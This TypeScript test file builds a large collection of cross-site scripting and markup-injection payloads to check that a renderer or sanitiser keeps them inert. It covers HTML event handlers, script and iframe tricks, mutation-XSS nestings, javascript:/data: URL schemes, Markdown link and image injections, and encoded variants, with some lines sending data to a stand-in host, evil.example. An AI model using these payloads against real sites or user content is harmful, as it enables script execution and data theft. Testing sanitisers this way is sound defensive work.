/*
 * Attacks by markup, made from families rather than listed: what is tried (a tag that runs or loads something), how it
 * is spelt, and where in a text it stands. For tests, here and in a browser: all of it must be inert wherever a text is
 * shown. What would run calls `ran(n)`; what would load or lead away goes to evil.example.
 */

/** What an attack calls. */
const call = "ran(1)";
const away = "https://evil.example/?d=secret";

const events = ["onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onbegin"];
const tags = ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "object", "marquee", "x", "math"];

/** Every tag with every event, as HTML's own parser would still read it. */
const handlers = tags.flatMap((tag, row) =>
  events.map((event, column) => {
    const spellings = [
      `<${tag} src=x ${event}=${call}>`,
      `<${tag.toUpperCase()} SRC=x ${event.toUpperCase()}="${call}">`,
      `<${tag}/src=x/${event}='${call}'/>`,
      `<${tag}\n${event}\t=\n${call} autofocus open>`,
      `<${tag} src="x" ${event}="${call.replace("(", "&lpar;").replace(")", "&#41;")}"`,
      `<<${tag} ${event}=${call}//`,
    ];
    return spellings[(row + column) % spellings.length] ?? "";
  }),
);

const elements = [
  `<script>${call}</script>`,
  `<script src=${away}></script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `</p><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\u0000>${call}</script>`,
  `<script type=module>import "${away}"</script>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<base href="${away}">`,
  `<base href="javascript:${call}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;${away}">`,
  `<form action="javascript:${call}"><button>go</button></form>`,
  `<form action="${away}"><input name=q autofocus></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<isindex action="javascript:${call}" type=image>`,
  `<style>@import "${away}";</style>`,
  `<style>*{background:url(${away})}</style>`,
  `<div style="background:url(${away})">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<link rel=stylesheet href="${away}">`,
  `<link rel=icon href="${away}">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<img src="${away}">`,
  `<img srcset="${away} 1x, ${away} 2x">`,
  `<picture><source srcset="${away}"><img src=x></picture>`,
  `<video poster="${away}"><source src="${away}" onerror="${call}"></video>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${call}"/></svg>`,
  `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  `<table background="${away}"><td>x</td></table>`,
  `<body background="${away}">`,
  `<!--><script>${call}</script>-->`,
  `<!--<img src="--><img src=x onerror=${call}>">`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `<template><script>${call}</script></template>`,
  `<dialog open onclose=${call}>x</dialog>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<a href="x" ping="${away}">x</a>`,
  `<area shape=default href="javascript:${call}">`,
  `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
  `<portal src="${away}"></portal>`,
  `<slot onslotchange=${call}></slot>`,
  `<bgsound src="${away}">`,
];

// What a sanitiser's parser and a browser's read differently.
const mutations = [
  "math><mtext><table><mglyph><style>",
  "svg></p><style><g title='</style>",
  "noscript><p title='</noscript>",
  "form><math><mtext></form><form><mglyph><style>",
  "select><template><style><!--</style>",
  "title><a title='</title>",
  "xmp><p title='</xmp>",
  "textarea><img title='</textarea>",
  "listing>&lt;/listing&gt;",
  "svg><desc><noembed></desc></noembed>",
  "math><annotation-xml encoding='text/html'>",
  "table><caption><math><mi>",
].flatMap((nest) => [`<${nest}<img src=x onerror=${call}>`, `<${nest}</math><img src onerror=${call}>'>`]);

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` \u0001javascript:${call}`,
  `java&#115;cript:${call}`,
  `&#x6A;avascript:${call}`,
  `&#0000106avascript:${call}`,
  `javascript&colon;${call}`,
  `java&Tab;script&colon;${call}`,
  `&NewLine;javascript:${call}`,
  `javascript:/*--></title></style>*/${call}`,
  `javascript://evil.example/%0a${call}`,
  `javascript\\:${call}`,
  `view-source:javascript:${call}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `DATA:image/svg+xml,<svg onload=${call}>`,
  `blob:https://evil.example/x`,
  `file:///etc/passwd`,
  `feed:javascript:${call}`,
  `jar:https://evil.example!/x`,
  `ws://evil.example`,
];

/** An address in every place that Markdown has for one. */
const linked = schemes.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `![x](${address})`,
  `<${address}>`,
  `[x][y]\n\n[y]: ${address}`,
  `[x](${address} "t\\" onclick=${call} x=")`,
  `<a href="${address}">x</a>`,
]);

const markdown = [
  `![x](${away})`,
  `![x][y]\n\n[y]: ${away}`,
  `![${"]".repeat(3)}](${away} "'><script>${call}</script>")`,
  `[x](https://ok.example "\\"><img src=x onerror=${call}>")`,
  `[<img src=x onerror=${call}>](https://ok.example)`,
  `[x](https://ok.example/"onmouseover="${call})`,
  `https://ok.example/"><script>${call}</script>`,
  `<https://ok.example/" onclick="${call}">`,
  `\`\`\`"><script>${call}</script>\nx\n\`\`\``,
  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; a["<img src=x onerror=${call}>"]; click a "javascript:${call}"\n\`\`\``,
  `\`\`\`svg\n<svg onload=${call}>\n\`\`\``,
  `\`</code><script>${call}</script>\``,
  `| <img src=x onerror=${call}> |\n|-|\n| [x](javascript:${call}) |`,
  `# <svg onload=${call}>`,
  `> <svg onload=${call}>`,
  `- [ ] <svg onload=${call}>`,
  `**<svg onload=${call}>**`,
  `[^1]: <svg onload=${call}>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\\<img src=x onerror=${call}\\>`,
  `$\\href{javascript:${call}}{x}$`,
  `$$\\htmlData{x=<img src=x onerror=${call}>}{y}$$`,
  `$\\includegraphics{${away}}$`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `"><img src=x onerror=${call}>`,
  `' autofocus onfocus=${call} '`,
  `\u202e<img src=x onerror=${call}>`,
  `＜script＞${call}＜/script＞`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

/** Where in a text an attack stands: one of these for each of the attacks by markup. */
const places: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `text ${attack} text`,
  (attack) => `- ${attack}`,
  (attack) => `> ${attack}`,
  (attack) => `**${attack}**`,
  (attack) => `[${attack}](https://ok.example)`,
  (attack) => `| a |\n|-|\n| ${attack} |`,
  (attack) => `# ${attack}`,
];

const markup = [...handlers, ...elements, ...mutations];

/** All attacks, each a text of its own. */
export const payloads: readonly string[] = [
  ...markup,
  // and each again, in a place that changes from one to the next
  ...markup.map((attack, index) => (places[1 + (index % (places.length - 1))] ?? String)(attack)),
  ...linked,
  ...markdown,
];
